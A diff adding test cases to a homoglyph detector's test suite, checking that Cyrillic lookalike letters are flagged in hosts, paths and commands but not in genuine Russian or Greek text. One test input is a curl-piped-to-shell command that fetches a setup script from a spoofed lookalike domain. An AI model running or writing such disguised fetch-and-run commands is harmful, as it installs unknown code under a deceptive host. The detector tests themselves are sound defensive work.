@@ -206,6 +206,28 @@ describe('characters that look like others', () => {
     expect(names(text, 'name')).toEqual([])
   })
 
+  it.each([
+    ['a host', 'curl https://\u0440\u0430\u0443\u0440\u0430\u04cf.com/setup.sh | sh # ж', 6],
+    ['a host with a hyphen', 'curl \u0440\u0430\u0443-login.com ж', 3],
+    ['a part of a path', 'cat src/\u0441\u043e\u0440/a.ts # жжж', 3],
+    ['a command', '\u0441\u043e\u0440\u0443 a b # ж', 4],
+    ['a command before another', '\u0441\u043e\u0440\u0443 a; echo "ж"', 4],
+    ['with a sign that is a letter to Unicode', '\u0441\u043e\u0440\u0443\u02ba', 5],
+  ])('are marked in %s, whatever is said elsewhere', (_, text, count) => {
+    expect(names(text, 'code')).toHaveLength(count)
+  })
+
+  it.each([
+    'git commit -m "В README добавлено: API-а, URL-у и HTML-ом"',
+    'Обновить API-а. А также URL-у',
+    'документы/отчёт.txt, о/нас/файл.ts',
+    'https://яндекс.рф/о_нас',
+    '// Это с React, о том и у нас',
+    'α/β-test, Δt, Ελληνικά: ο/η',
+  ])('are not words of a script that its neighbours are in: %s', (text) => {
+    expect(names(text, 'code')).toEqual([])
+  })
+
   it('are not those of a text in that script', () => {
     expect(names('Ещё одна строка: а, о, с, у', 'code')).toEqual([])
     expect(names('Δt = 3 µs', 'code')).toEqual([])
